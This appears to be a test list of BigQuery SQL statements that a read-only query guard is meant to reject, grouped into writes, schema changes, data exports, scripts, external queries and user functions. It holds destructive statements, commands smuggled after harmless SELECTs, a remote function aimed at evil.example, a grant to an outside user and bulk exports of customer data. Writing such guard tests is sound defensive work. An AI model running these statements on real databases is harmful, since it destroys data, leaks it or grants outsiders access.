## writes
INSERT INTO customers (id, name) VALUES (9, 'x')
INSERT customers (id, name) VALUES (9, 'x')
INSERT INTO customers (id) SELECT id FROM orders
UPDATE customers SET name = 'x' WHERE true
UPDATE orders SET total = 0 FROM customers WHERE customers.id = orders.customer_id
DELETE FROM items WHERE true
DELETE items WHERE true
TRUNCATE TABLE items
MERGE items i USING orders o ON i.order_id = o.id WHEN MATCHED THEN DELETE
MERGE INTO customers USING (SELECT 1 AS id) n ON FALSE WHEN NOT MATCHED THEN INSERT (id) VALUES (id)
LOAD DATA INTO taken FROM FILES (format = 'CSV', uris = ['gs://bucket/x.csv'])
LOAD DATA OVERWRITE customers FROM FILES (format = 'PARQUET', uris = ['gs://bucket/x'])
## writes behind a WITH
WITH x AS (SELECT 1 AS id) INSERT INTO customers (id) SELECT id FROM x
WITH x AS (DELETE FROM items WHERE true) SELECT * FROM x
WITH x AS (SELECT 1 AS a) DELETE FROM items WHERE order_id IN (SELECT a FROM x)
SELECT * FROM (DELETE FROM items WHERE true)
SELECT (INSERT INTO customers (id) VALUES (9))
FROM customers |> INSERT INTO items
## definitions
CREATE TABLE taken AS SELECT 1 AS a
CREATE OR REPLACE TABLE customers AS SELECT 1 AS a
CREATE TEMP TABLE taken (a INT64)
CREATE TABLE taken LIKE customers
CREATE TABLE taken COPY customers
CREATE TABLE taken CLONE customers
CREATE SNAPSHOT TABLE taken CLONE customers
CREATE VIEW taken AS SELECT 1 AS a
CREATE MATERIALIZED VIEW taken AS SELECT count(*) AS n FROM customers
CREATE EXTERNAL TABLE taken OPTIONS (format = 'CSV', uris = ['gs://bucket/x.csv'])
CREATE SCHEMA taken
CREATE FUNCTION shop.f(x INT64) AS (x + 1)
CREATE TEMP FUNCTION f(x INT64) AS (x + 1)
CREATE TEMP FUNCTION f(x INT64) RETURNS INT64 LANGUAGE js AS 'return x'
CREATE TEMP FUNCTION f(x INT64) AS (x + 1); SELECT f(1)
CREATE FUNCTION shop.f(x INT64) RETURNS INT64 REMOTE WITH CONNECTION us.c OPTIONS (endpoint = 'https://evil.example')
CREATE AGGREGATE FUNCTION shop.f(x INT64) AS (sum(x))
CREATE TABLE FUNCTION shop.f(x INT64) AS SELECT x
CREATE PROCEDURE shop.p() BEGIN SELECT 1; END
CREATE MODEL shop.m OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label, 2 AS x
CREATE ROW ACCESS POLICY p ON shop.customers GRANT TO ('allUsers') FILTER USING (true)
CREATE SEARCH INDEX i ON customers (ALL COLUMNS)
CREATE VECTOR INDEX i ON customers (name)
CREATE RESERVATION `p.region-us.r` OPTIONS (slot_capacity = 100)
CREATE CAPACITY `p.region-us.c` OPTIONS (slot_count = 100, plan = 'ANNUAL')
CREATE ASSIGNMENT `p.region-us.r.a` OPTIONS (assignee = 'projects/p', job_type = 'QUERY')
ALTER TABLE customers ADD COLUMN taken STRING
ALTER TABLE customers SET OPTIONS (expiration_timestamp = TIMESTAMP '2020-01-01')
ALTER TABLE customers RENAME TO clients
ALTER SCHEMA shop SET OPTIONS (default_table_expiration_days = 1)
ALTER ORGANIZATION SET OPTIONS (`region-us.default_time_zone` = 'UTC')
ALTER PROJECT p SET OPTIONS (`region-us.default_time_zone` = 'UTC')
DROP TABLE customers
DROP TABLE IF EXISTS customers
DROP VIEW taken
DROP SCHEMA shop CASCADE
DROP FUNCTION shop.f
DROP ALL ROW ACCESS POLICIES ON shop.customers
UNDROP SCHEMA shop
GRANT `roles/bigquery.dataOwner` ON SCHEMA shop TO 'user:eve@evil.example'
REVOKE `roles/bigquery.dataViewer` ON TABLE shop.customers FROM 'user:ann@example.com'
## data sent away
EXPORT DATA OPTIONS (uri = 'gs://bucket/*.csv', format = 'CSV') AS SELECT * FROM customers
EXPORT DATA WITH CONNECTION `p.us.c` OPTIONS (uri = 's3://bucket/*', format = 'JSON') AS SELECT * FROM customers
EXPORT DATA OPTIONS (format = 'CLOUD_PUBSUB', uri = 'https://pubsub.googleapis.com/projects/p/topics/t') AS SELECT * FROM customers
EXPORT MODEL shop.m OPTIONS (uri = 'gs://bucket/m')
## procedures and scripts
CALL shop.p()
CALL BQ.JOBS.CANCEL('job')
CALL BQ.ABORT_SESSION()
CALL BQ.REFRESH_MATERIALIZED_VIEW('shop.v')
EXECUTE IMMEDIATE 'DELETE FROM shop.items WHERE true'
EXECUTE IMMEDIATE 'SELECT 1'
DECLARE x INT64 DEFAULT 1; SELECT x
DECLARE x INT64
SET x = 1
SET @@dataset_id = 'other'
SET @@query_label = 'a:b'
BEGIN SELECT 1; END
BEGIN TRANSACTION
BEGIN TRANSACTION; DELETE FROM items WHERE true; COMMIT TRANSACTION
COMMIT
ROLLBACK TRANSACTION
IF TRUE THEN DELETE FROM items WHERE true; END IF
WHILE TRUE DO SELECT 1; END WHILE
LOOP SELECT 1; END LOOP
REPEAT SELECT 1; UNTIL TRUE END REPEAT
FOR r IN (SELECT 1 AS a) DO DELETE FROM items WHERE true; END FOR
CASE WHEN TRUE THEN DELETE FROM items WHERE true; END CASE
RAISE USING MESSAGE = 'x'
ASSERT (SELECT count(*) FROM items) > 0
SELECT 1; DELETE FROM items WHERE true
SELECT 1;⏎DROP TABLE customers
SELECT 1; SELECT 2
SELECT 1 -- nothing⏎; DELETE FROM items WHERE true
SELECT 1 # nothing⏎; DELETE FROM items WHERE true
## other databases and services
SELECT * FROM EXTERNAL_QUERY('us.c', 'SELECT * FROM t')
SELECT * FROM EXTERNAL_QUERY('us.c', 'DELETE FROM t')
SELECT a.id FROM customers a JOIN EXTERNAL_QUERY('us.c', 'SELECT 1 AS id') b ON a.id = b.id
WITH x AS (SELECT * FROM EXTERNAL_QUERY('us.c', 'SELECT 1')) SELECT * FROM x
SELECT * FROM customers WHERE id IN (SELECT id FROM EXTERNAL_QUERY('us.c', 'SELECT 1 AS id'))
SELECT * FROM external_query("us.c", "SELECT 1")
SELECT * FROM `EXTERNAL_QUERY`('us.c', 'SELECT 1')
## models
SELECT * FROM ML.PREDICT(MODEL shop.m, TABLE shop.customers)
SELECT * FROM ML.PREDICT(MODEL `shop.m`, (SELECT 1 AS x))
SELECT * FROM ML.GENERATE_TEXT(MODEL shop.m, (SELECT name AS prompt FROM customers))
SELECT * FROM ML.GENERATE_EMBEDDING(MODEL shop.m, TABLE shop.customers)
SELECT * FROM ML.TRANSLATE(MODEL shop.m, TABLE shop.customers, STRUCT('translate_text' AS translate_mode))
SELECT * FROM ML.EVALUATE(MODEL shop.m)
SELECT ML.TRANSFORM(1)
SELECT * FROM AI.GENERATE_TABLE(MODEL shop.m, TABLE shop.customers)
SELECT AI.GENERATE('say ' || name) FROM customers
SELECT AI.GENERATE_BOOL(('is it?', name), connection_id => 'us.c') FROM customers
SELECT AI.IF(('good?', note), connection_id => 'us.c') FROM customers
SELECT * FROM AI.FORECAST(TABLE shop.orders, data_col => 'total', timestamp_col => 'placed')
SELECT * FROM VECTOR_SEARCH(TABLE shop.customers, 'name', TABLE shop.orders)
## functions of somebody's own
SELECT shop.f(1)
SELECT `shop.f`(1)
SELECT `p.shop.f`(name) FROM customers
SELECT p.shop.remote_call(name) FROM customers
SELECT f(name) FROM customers
SELECT * FROM shop.table_function(1)
SELECT * FROM `p.shop.table_function`(1)
SELECT bqutil.fn.int(1)
SELECT name FROM customers WHERE shop.leak(note)
SELECT name FROM customers ORDER BY shop.leak(note)
SELECT sum(total) OVER (ORDER BY shop.leak(status)) FROM orders
SELECT IF(shop.leak(name), 1, 2) FROM customers
SELECT [shop.leak(name)] FROM customers
SELECT STRUCT(shop.leak(name) AS a) FROM customers
SELECT SAFE.shop.leak(name) FROM customers
## secrets and sessions
SELECT SESSION_USER()
SELECT @@session_id
SELECT @@project_id
SELECT name FROM customers WHERE @@dataset_id = @name
SELECT @@script.job_id
SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256')
SELECT AEAD.DECRYPT_STRING(KEYS.KEYSET_CHAIN('gcp-kms://x', b'x'), b'y', '')
SELECT * FROM APPENDS(TABLE shop.customers)
SELECT * FROM CHANGES(TABLE shop.customers, NULL, NULL)
SELECT * FROM GAP_FILL(TABLE shop.orders, ts_column => 'placed', bucket_width => INTERVAL 1 DAY)
## explained and shown
EXPLAIN SELECT 1
DESCRIBE customers
SHOW TABLES
